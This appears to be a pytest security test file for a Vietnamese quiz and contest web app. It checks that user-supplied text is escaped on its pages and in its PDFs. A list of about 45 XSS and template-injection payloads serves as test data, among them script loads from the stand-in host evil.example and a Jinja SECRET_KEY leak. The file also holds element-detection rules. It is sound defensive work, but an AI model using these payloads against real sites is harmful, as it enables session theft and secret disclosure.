"""Text that would like to be code, through every door that takes text: it comes out as text on every page and paper.

Whether a browser runs any of it is tried in a browser, elsewhere; here the bytes are read.
"""

import io
import zipfile
from datetime import date
from decimal import Decimal
from typing import Any

import msgspec
import pytest
import yaml
from bs4 import BeautifulSoup, Tag
from flask import Flask
from pypdf import PdfReader
from sqlalchemy import select, update

from quizapp.app import create_app
from quizapp.attempts.models import Attempt, Essay
from quizapp.contests.presets import read_preset
from quizapp.contests.queries import list_rounds
from quizapp.contests.rules import Draw, EssayTerms
from quizapp.contests.services import create_contest
from quizapp.entries import pdf
from quizapp.entries import services as entries
from quizapp.foundation.access import SYSTEM, Role
from quizapp.foundation.sanitize import ALLOWED_TAGS
from quizapp.house import House
from quizapp.roster.models import Person
from quizapp.worker.loop import work_off
from tests.factories import Card, Visitor, answer_all, enter, hand_in, start

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script>alert(4)//",
    "<<script>alert(5)</script>",
    "</script><script>alert(6)</script>",
    "</title><script>alert(7)</script>",
    "</textarea><script>alert(8)</script>",
    "--><script>alert(9)</script><!--",
    "]]><script>alert(10)</script>",
    "<img src=x onerror=alert(11)>",
    "<img src='x' onerror='alert(12)'>",
    "<img/src=x/onerror=alert(13)>",
    "<image href=x onerror=alert(14)>",
    "<svg onload=alert(15)>",
    "<svg><script>alert(16)</script></svg>",
    "<svg><animate onbegin=alert(17) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(18)'><text x=20 y=20>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(19)'>x</mi></math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(20)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(21)>'>",
    "<form><input type=submit formaction=javascript:alert(22)></form>",
    "<a href='javascript:alert(23)'>x</a>",
    "<a href='java&#9;script:alert(24)'>x</a>",
    "<a href='data:text/html,<script>alert(25)</script>'>x</a>",
    "<iframe src=javascript:alert(26)></iframe>",
    "<iframe srcdoc='<script>alert(27)</script>'></iframe>",
    "<object data=javascript:alert(28)></object>",
    "<embed src=javascript:alert(29)>",
    "<body onload=alert(30)>",
    "<details open ontoggle=alert(31)>x</details>",
    "<video><source onerror=alert(32)></video>",
    "<p style='background:url(javascript:alert(33))'>x</p>",
    "<p style='text-align:center;position:fixed;inset:0' onclick=alert(34)>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(37)'>",
    "<base href=https://evil.example/>",
    '" autofocus onfocus=alert(39) x="',
    "' onmouseover=alert(40) '",
    "{{ config.SECRET_KEY }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(43)}",
    "%(secret)s %s %d",
    "\\u003cscript\\u003ealert(45)\\u003c/script\\u003e",
]
ACTIVE = {"script", "iframe", "object", "embed", "svg", "math", "base", "style", "link", "meta"}
OURS_AT_TIMES = {"form", "template", "noscript"}


def bank_of(texts: list[str]) -> bytes:
    """Return a ZIP of a bank whose every text is one of ``texts``: stems, options, topics, explanations, sources."""
    head = {
        "format": "quizapp-bank/1",
        "id": "hostile",
        "title": {"vi": texts[0], "en": texts[0]},
        "domain": "general",
        "as_of": date(2019, 8, 20),
        "language": "vi",
    }
    items = [_item(number, text, texts) for number, text in enumerate(texts)]
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("hostile/bank.yaml", yaml.safe_dump(head, allow_unicode=True))
        archive.writestr("hostile/questions/a.yaml", yaml.safe_dump(items, allow_unicode=True))
    return packed.getvalue()


def _item(number: int, text: str, texts: list[str]) -> dict[str, Any]:
    about = {
        "id": f"h-{number}",
        "audience": ["student", "staff"],
        "difficulty": "apply",
        "topic": text,
        "stem": f"{number} {text}",
        "legal_basis": [{"document": text, "article": text}],
        "source": text,
        "valid_from": date(2019, 1, 1),
    }
    if number == 0:
        return about | {"kind": "essay", "outline": [f"{at} {one}" for at, one in enumerate(texts)]}
    options = {letter: f"{letter} {texts[(number + at) % len(texts)]}" for at, letter in enumerate("abcd")}
    kind = "multiple" if number % 2 else "single"
    return about | {"kind": kind, "options": options, "key": ["a", "b"] if number % 2 else ["a"], "explanation": text}


def build(house: House, texts: list[str]) -> tuple[Flask, Card, dict[str, str]]:
    """Let an administrator load the bank by page, make a contest of it, and let a pupil of such a name start."""
    app, admin = create_app(house), enter(house, Role.ADMINISTRATOR, unit="PGD", name="Đỗ Thu Hà")
    boss = Visitor(app).sign_in(admin)
    sent = boss.post("/admin/banks", file=(io.BytesIO(bank_of(texts)), "bank.zip"))
    preview = boss.get(sent.headers["Location"]).text
    assert boss.post(sent.headers["Location"]).headers["Location"] == "/admin/banks"
    _contest(house, texts)
    pupil = enter(house, name=texts[1][:100])
    with house.store.unit_of_work(SYSTEM) as work:
        work.session.scalars(
            select(Person).where(Person.account_id == pupil.actor.account_id)
        ).one().class_name = texts[2]
    return app, pupil, {"preview": preview, "banks": boss.get("/admin/banks").text}


def _contest(house: House, texts: list[str]) -> None:
    plain = read_preset("ha-noi-2019")
    title = {"vi": " ".join(texts), "en": "x"}
    (told,) = plain.rounds
    essay = EssayTerms(("h-0",), 1500, Decimal(20))
    rubric = tuple(msgspec.structs.replace(criterion, title=title) for criterion in told.terms.rubric)
    draw = (Draw(("general",), len(texts) - 1),)
    terms = msgspec.structs.replace(told.terms, draw=draw, essay=essay, rubric=rubric)
    round_ = msgspec.structs.replace(told, title=title, terms=terms)
    words = {"vi": tuple(texts), "en": ("x",)}
    preset = msgspec.structs.replace(plain, title=title, organisers=tuple(texts), rules_text=words, rounds=(round_,))
    with house.store.unit_of_work(SYSTEM) as work:
        create_contest(work, preset)


def pages(house: House, texts: list[str]) -> dict[str, str]:
    """Return every page on which somebody's text is shown, errors included."""
    app, pupil, shown = build(house, texts)
    mine, judge = Visitor(app).sign_in(pupil), Visitor(app).sign_in(enter(house, Role.JUDGE, unit="PGD"))
    ref = start(house, pupil)
    with house.store.reading() as view:
        round_ref = list_rounds(view.session)[0].ref
    for path in (
        "/",
        "/contests",
        f"/rounds/{round_ref}",
        *(f"/attempts/{ref}{page}" for page in ("", "/essay", "/review")),
    ):
        shown[path.replace(ref, "A").replace(round_ref, "R")] = mine.get(path).text
    answer_all(house, pupil, ref, "<p>Em viết.</p>")
    shown["review, answered"] = mine.get(f"/attempts/{ref}/review").text
    code = hand_in(house, pupil, ref)
    work_off(house)
    shown["receipt"] = mine.get(f"/attempts/{ref}/receipt").text
    shown["public receipt"] = mine.get(f"/receipts/{code}").text
    script = judge.post("/judge/next").headers["Location"]
    shown["script"] = judge.get(script).text
    shown["script again"] = judge.post(script, **{"mark-content": texts[11], "mark-form": texts[38]}).text
    shown["sign-in again"] = Visitor(app).post("/sign-in", code=texts[38], pin=texts[39]).text
    shown["no receipt"] = mine.client.get("/receipts", query_string={"code": texts[38]}).text
    return shown


def test_no_text_of_bank_contest_or_person_becomes_an_element(empty_house: House) -> None:
    shown = pages(empty_house, PAYLOADS)
    assert len(shown) == 15 and len(PAYLOADS) >= 40
    for name, page in shown.items():
        assert foreign_to_us(page) == [], name
        assert [text for text in PAYLOADS if set(text) & set("<>\"'") and text in page] == [], name
    read = " ".join(BeautifulSoup("".join(shown.values()), "html.parser").get_text(" ").split())
    assert [text for text in PAYLOADS if " ".join(text.split()) not in read] == [], "the words are all there"


def foreign_to_us(page: str) -> list[str]:
    """Return the elements that no template of ours would write."""
    return [str(tag)[:120] for tag in BeautifulSoup(page, "html.parser").find_all(True) if is_foreign(tag)]


def is_foreign(tag: Tag) -> bool:
    """Tell whether a page of ours would never hold this element."""
    if any(name.startswith("on") or name in ("srcdoc", "formaction", "style") for name in tag.attrs):
        return True
    addresses = [str(tag[name]) for name in ("href", "src", "action") if name in tag.attrs]
    away = any(not address.startswith(("/", "#", "http://127.0.0.1:8000/")) for address in addresses)
    ours = {
        "script": tag.get("type") in ("module", "application/json"),
        "link": tag.get("rel") in (["icon"], ["stylesheet"]),
        "meta": tag.get("name") in ("viewport", "csrf-token", "theme-color") or "charset" in tag.attrs,
        "svg": "icon" in tag.get_attribute_list("class"),
        "form": tag.get("method") in ("post", "get", "dialog") or tag.get("id") == "answers",
        "noscript": tag.find(class_="notice") is not None or tag.find("a", href=True) is not None,
        "template": tag.get("id") == "conflict-template",
    }
    return away or (tag.name in ACTIVE | OURS_AT_TIMES and not ours.get(tag.name, False))


@pytest.mark.parametrize("payload", [text for text in PAYLOADS if "<" in text or "onfocus" in text])
def test_the_check_notices_text_that_was_not_escaped(payload: str) -> None:
    assert foreign_to_us(f'<p class="stem">{payload}</p><input value="{payload}">')


def test_an_essay_keeps_words_and_loses_everything_else(house: House, app: Flask, visitor: Visitor) -> None:
    card = enter(house)
    visitor.sign_in(card)
    ref = start(house, card)
    kept = []
    for number, payload in enumerate(PAYLOADS, 1):
        path, essay = f"/api/v1/attempts/{ref}/responses/41", f"<p>Trước. {payload}</p><p>Sau cùng.</p>"
        assert visitor.send("put", path, {"seq": number, "html": essay}).get_json()["seq"] == number
        kept.append(visitor.get(f"/api/v1/attempts/{ref}").get_json()["items"][-1]["html"])
        assert foreign_to_us(visitor.get(f"/attempts/{ref}/essay").text) == [], payload
    hand_in(house, card, ref)
    work_off(house)
    judge = Visitor(app).sign_in(enter(house, Role.JUDGE, unit="PGD"))
    script = judge.post("/judge/next").headers["Location"]
    for payload, html in zip(PAYLOADS, kept, strict=True):
        with house.store.unit_of_work(SYSTEM) as work:
            work.session.execute(update(Essay).values(html=html))
        shown = BeautifulSoup(judge.get(script).text, "html.parser").select_one(".essay-text")
        assert shown is not None and "Trước." in shown.get_text(), payload
        assert shown.decode_contents() == BeautifulSoup(html, "html.parser").decode_contents(), payload
        assert not_of_an_essay(html) == [], payload


def not_of_an_essay(html: str) -> list[str]:
    """Return the elements that an essay may not hold."""

    def fits(tag: Tag) -> bool:
        style = str(tag.get("style", "text-align:left")).rstrip(";").replace(" ", "")
        aligned = style in {f"text-align:{way}" for way in ("left", "center", "right", "justify")}
        return tag.name in ALLOWED_TAGS and set(tag.attrs) <= {"style", "start"} and aligned

    return [str(tag) for tag in BeautifulSoup(html, "html.parser").find_all(True) if not fits(tag)]


def test_on_paper_hostile_text_is_text(empty_house: House) -> None:
    _app, pupil, _pages = build(empty_house, PAYLOADS)
    ref = start(empty_house, pupil)
    answer_all(empty_house, pupil, ref, "".join(f"<p>{payload}</p>" for payload in PAYLOADS))
    hand_in(empty_house, pupil, ref)
    with empty_house.store.reading() as view:
        attempt = view.session.scalars(select(Attempt.id)).one()
        paper = pdf.render_entry(entries.document(view, attempt, "https://thi.example.vn"))
    read = PdfReader(io.BytesIO(paper))
    said = "".join("".join(page.extract_text() for page in read.pages).split())
    assert [text for text in PAYLOADS[1:3] if "".join(text.split()) not in said] == [], "name and class stand there"
    inside = str([read.get_object(number) for number in range(1, int(read.trailer["/Size"]))])
    assert "/Page" in inside and "/Font" in inside
    assert [name for name in ("/JavaScript", "/JS'", "/Launch", "/EmbeddedFile") if name in inside] == []
    links = [one.get_object()["/A"].get("/URI") for page in read.pages for one in page.get("/Annots", [])]
    assert [link for link in links if not str(link).startswith("https://thi.example.vn/receipts/")] == []
